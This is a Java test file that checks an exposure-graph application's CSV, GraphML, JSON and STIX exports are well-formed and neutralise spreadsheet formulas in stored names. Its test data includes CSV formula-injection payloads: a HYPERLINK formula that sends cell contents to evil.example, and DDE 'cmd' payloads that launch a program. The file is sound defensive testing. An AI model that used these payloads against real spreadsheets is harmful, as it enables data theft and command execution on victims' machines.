package org.exposuregraph.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import javax.xml.parsers.DocumentBuilderFactory;

import org.exposuregraph.api.ExportText;
import org.exposuregraph.graph.WriteRules;
import org.exposuregraph.support.EmptyGraphTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.json.JsonMapper;

/**
 * Exports stay safe and well-formed whatever a name holds: no CSV cell a spreadsheet would run as a formula,
 * and GraphML, native and STIX exports that parse for any stored string, including what today's write rules
 * refuse but older data may hold.
 */
@EmptyGraphTest
class SafeExportTest extends ImportTestSupport {

    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1)",
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tleading tab", "\r=leading return");

    @Autowired
    JsonMapper json;

    private String get(String uri) {
        return new String(http.get().uri(uri).exchange().expectStatus().isOk()
                .expectBody().returnResult().getResponseBody(), StandardCharsets.UTF_8);
    }

    /** Names each client of vendor v: through the write path where the write rules allow it, else directly. */
    private void clientsNamed(List<String> names) {
        fixtures.load("exposure-chain");
        List<Map<String, Object>> organisations = new ArrayList<>();
        List<Map<String, Object>> flows = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            String id = "named-" + i;
            flows.add(Map.of("id", "flow-" + id, "client", id, "processor", "v", "categories", List.of("health")));
            if (WriteRules.text(WriteRules.Text.NAME, names.get(i)) == null) {
                organisations.add(Map.of("id", id, "name", names.get(i), "kind", "PRIVATE_CLINIC"));
            } else {
                neo4j.query("CREATE (:Organisation {id: $id, name: $name, kind: 'PRIVATE_CLINIC', status: 'ACTIVE'})")
                        .bind(id).to("id").bind(names.get(i)).to("name").run();
            }
        }
        Map<String, Object> document = new LinkedHashMap<>();
        document.put("format", "exposuregraph-native");
        document.put("version", 1);
        document.put("organisations", organisations);
        document.put("dataFlows", flows);
        imports.importOk("native", json.writeValueAsBytes(document));
    }

    @Test
    void noExportedCsvCellStartsWithAFormulaCharacter() {
        clientsNamed(FORMULAS);
        String csv = get("/api/exports/exposure.csv?vendorId=v");
        List<List<String>> records = records(csv);
        records.forEach(record -> record.forEach(cell -> assertThat(ExportText.startsLikeFormula(cell)).as(record.toString()).isFalse()));
        // Neutralised, not lost: the name is there after its leading quote.
        assertThat(records.stream().map(r -> r.get(ExposureColumns.CLIENT_NAME))).contains(
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0",
                "'-2+3", "'\tleading tab", "'\r=leading return");
    }

    @Test
    void everyExportIsWellFormedForAnyStoredString() throws Exception {
        Random random = new Random(20261130L);
        List<String> names = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            names.add(randomText(random));
        }
        clientsNamed(names);
        String graphMl = get("/api/exports/graphml");
        assertThatCode(() -> DocumentBuilderFactory.newInstance().newDocumentBuilder()
                .parse(new ByteArrayInputStream(graphMl.getBytes(StandardCharsets.UTF_8)))).doesNotThrowAnyException();
        assertThat(graphMl).contains("named-149");
        assertThatCode(() -> json.readTree(get("/api/exports/native"))).doesNotThrowAnyException();
        assertThatCode(() -> json.readTree(get("/api/exports/stix"))).doesNotThrowAnyException();
        String csv = get("/api/exports/exposure.csv?vendorId=v");
        assertThat(csv).contains("named-149");
        List<List<String>> records = records(csv);
        assertThat(records).hasSizeGreaterThan(150);
        records.forEach(record -> {
            assertThat(record).hasSize(ExposureColumns.COUNT);
            record.forEach(cell -> assertThat(ExportText.startsLikeFormula(cell)).as(record.toString()).isFalse());
        });
    }

    /** Code points from every plane, with control characters, formula starts and XML's own specials well represented. */
    private static String randomText(Random random) {
        StringBuilder text = new StringBuilder();
        int length = 1 + random.nextInt(30);
        while (text.length() < length) {
            int codePoint = switch (random.nextInt(6)) {
                case 0 -> random.nextInt(0x20);
                case 1 -> "=+-@\t\r<>&\"'],;".charAt(random.nextInt(14));
                case 2 -> 0x7F + random.nextInt(0x21);
                case 3 -> 0x10000 + random.nextInt(0x10FFFF - 0x10000);
                case 4 -> random.nextBoolean() ? 0xFFFE + random.nextInt(2) : 0xE000 + random.nextInt(0x1000);
                default -> 0x20 + random.nextInt(0xD000);
            };
            text.appendCodePoint(codePoint);
        }
        return text.toString();
    }

    /** RFC 4180 records, as a spreadsheet reads them: quoted cells may hold commas, quotes and line breaks. */
    private static List<List<String>> records(String csv) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && cell.isEmpty()) {
                quoted = true;
            } else if (c == ',') {
                record.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\n') {
                record.add(cell.toString());
                cell.setLength(0);
                records.add(record);
                record = new ArrayList<>();
            } else {
                cell.append(c);
            }
        }
        assertThat(quoted).as("unterminated quoted cell").isFalse();
        return records.subList(1, records.size());
    }

    /** Column positions of the exposure CSV (docs/analytics.md). */
    private static final class ExposureColumns {
        static final int CLIENT_NAME = 2;
        static final int COUNT = 14;
    }
}
